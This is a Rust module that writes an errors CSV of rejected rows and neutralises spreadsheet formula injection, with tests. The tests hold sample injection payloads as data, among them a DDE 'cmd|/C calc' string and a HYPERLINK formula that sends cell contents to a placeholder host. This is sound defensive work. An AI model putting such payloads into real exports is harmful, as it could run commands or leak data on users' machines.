//! The errors CSV: every row that was not applied, with its original
//! columns and an `error` column, ready to be fixed and dropped back in.
//! Cells a spreadsheet would run as formulas are neutralised (OWASP CSV
//! injection): the file's content must never execute on a clerk's machine.

use crate::plan::Draft;

/// A leading `'` on text a spreadsheet would read as a formula (SPEC §5):
/// its first non-blank character is `=`, `+`, `-` or `@`, or it starts with
/// a tab or carriage return — a spreadsheet skips leading spaces, so
/// ` =HYPERLINK(…)` is as live as `=HYPERLINK(…)`. A plain number such as
/// `-3` is left alone: it is data, not a formula. The import drops one
/// leading `'`, so a neutralised cell reads back as it was. Every CSV
/// stockdrop writes (this report and `stockdrop export`) goes through here.
pub fn neutralise(cell: &str) -> String {
    let first_visible =
        cell.trim_start_matches(|c: char| c.is_whitespace() && c != '\t' && c != '\r');
    let risky = cell.starts_with(['\t', '\r'])
        || first_visible.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && !is_plain_number(first_visible) {
        format!("'{cell}")
    } else {
        cell.to_string()
    }
}

fn is_plain_number(cell: &str) -> bool {
    let body = cell.strip_prefix(['+', '-']).unwrap_or(cell);
    !body.is_empty()
        && body.bytes().any(|b| b.is_ascii_digit())
        && body
            .bytes()
            .all(|b| b.is_ascii_digit() || b == b'.' || b == b',')
        && body.bytes().filter(|&b| b == b'.' || b == b',').count() <= 1
}

/// The errors CSV written row by row as the rows are found, so no more than
/// one row is held: UTF-8 with a BOM (so Excel reads accents right), comma
/// separated, CRLF line ends. It stops at `limit` bytes (a bad file must
/// not fill the outbox) and counts the rows it left out.
pub struct Writer<W: std::io::Write> {
    csv: csv::Writer<W>,
    width: usize,
    /// Bytes written so far (cells and separators; quoting aside).
    bytes: u64,
    location: bool,
    limit: u64,
    /// Rows written, and rows left out once `limit` was reached.
    pub rows: u64,
    pub omitted: u64,
}

impl<W: std::io::Write> Writer<W> {
    /// Starts the file: the BOM and the header (the file's own columns,
    /// then `locationName` when the location came from elsewhere, then
    /// `error`).
    pub fn new(
        mut out: W,
        columns: &[String],
        location: bool,
        limit: u64,
    ) -> std::io::Result<Self> {
        out.write_all(b"\xEF\xBB\xBF")?;
        let mut csv = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .flexible(true)
            .from_writer(out);
        let mut header: Vec<String> = columns.to_vec();
        if location {
            header.push("locationName".into());
        }
        header.push("error".into());
        let header: Vec<String> = header.iter().map(|h| neutralise(h)).collect();
        csv.write_record(&header)?;
        Ok(Writer {
            csv,
            width: columns.len(),
            bytes: 3 + record_bytes(&header),
            location,
            limit,
            rows: 0,
            omitted: 0,
        })
    }

    /// One row left out: its original cells, its location, why.
    pub fn row(
        &mut self,
        cells: &[String],
        location: Option<&str>,
        error: &str,
    ) -> std::io::Result<()> {
        if self.bytes >= self.limit {
            self.omitted += 1;
            return Ok(());
        }
        let mut record: Vec<String> = cells
            .iter()
            .chain(std::iter::repeat(&String::new()))
            .take(self.width)
            .map(|c| neutralise(c))
            .collect();
        if self.location {
            record.push(neutralise(location.unwrap_or("")));
        }
        record.push(neutralise(error));
        self.csv.write_record(&record)?;
        self.bytes += record_bytes(&record);
        self.rows += 1;
        Ok(())
    }

    /// Flushes and hands back the output.
    pub fn finish(self) -> std::io::Result<W> {
        self.csv
            .into_inner()
            .map_err(|e| std::io::Error::other(e.to_string()))
    }
}

fn record_bytes(record: &[String]) -> u64 {
    record.iter().map(|c| c.len() as u64 + 1).sum::<u64>() + 1
}

/// The whole CSV of a draft that still holds its rows (a plan stored by an
/// earlier version of stockdrop).
pub fn render(draft: &Draft) -> std::io::Result<Vec<u8>> {
    let mut writer = Writer::new(
        Vec::new(),
        &draft.errors_csv_header,
        draft.errors_csv_location,
        u64::MAX,
    )?;
    for row in &draft.errors_csv {
        writer.row(&row.cells, row.location.as_deref(), &row.error)?;
    }
    writer.finish()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::plan::ErrorsCsvRow;

    #[test]
    fn formulas_are_neutralised_numbers_are_not() {
        assert_eq!(neutralise("=HYPERLINK(\"x\")"), "'=HYPERLINK(\"x\")");
        assert_eq!(neutralise("+1+1"), "'+1+1");
        assert_eq!(neutralise("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(neutralise("\tx"), "'\tx");
        assert_eq!(neutralise("-"), "'-");
        assert_eq!(neutralise("-3"), "-3");
        assert_eq!(neutralise("-1.5"), "-1.5");
        assert_eq!(neutralise("+7"), "+7");
        assert_eq!(neutralise("A-1"), "A-1");
    }

    #[test]
    fn formulas_behind_blanks_are_neutralised() {
        let link = " =HYPERLINK(\"http://x.example/?\"&A1)";
        assert_eq!(neutralise(link), format!("'{link}"));
        assert_eq!(neutralise("  @SUM(1+1)"), "'  @SUM(1+1)");
        assert_eq!(neutralise("\u{a0}+cmd"), "'\u{a0}+cmd");
        assert_eq!(neutralise(" \t=x"), "' \t=x");
        assert_eq!(
            neutralise("@SUM(1+1)*cmd|' /C calc'!A0"),
            "'@SUM(1+1)*cmd|' /C calc'!A0"
        );
        assert_eq!(neutralise(" -3"), " -3");
        assert_eq!(neutralise(" 12"), " 12");
        assert_eq!(neutralise("a =b"), "a =b");
    }

    #[test]
    fn rows_keep_their_columns_plus_error() {
        let draft = Draft {
            errors_csv_header: vec!["sku".into(), "qty".into()],
            errors_csv_location: true,
            errors_csv: vec![ErrorsCsvRow {
                cells: vec!["=cmd".into()],
                location: Some("11".into()),
                error: "quantity is missing".into(),
            }],
            ..Draft::default()
        };
        let text = String::from_utf8(render(&draft).unwrap()).unwrap();
        assert_eq!(
            text,
            "\u{feff}sku,qty,locationName,error\r\n'=cmd,,11,quantity is missing\r\n"
        );
    }

    #[test]
    fn stops_at_its_limit_and_counts_what_it_left_out() {
        let mut writer = Writer::new(Vec::new(), &["sku".to_string()], false, 40).unwrap();
        for n in 0..10 {
            writer.row(&[format!("SKU-{n}")], None, "bad").unwrap();
        }
        let (rows, omitted) = (writer.rows, writer.omitted);
        let text = String::from_utf8(writer.finish().unwrap()).unwrap();
        assert_eq!(rows + omitted, 10);
        assert!(omitted > 0 && rows > 0, "{rows} {omitted}");
        assert_eq!(text.lines().count() as u64, rows + 1, "{text}");
    }
}
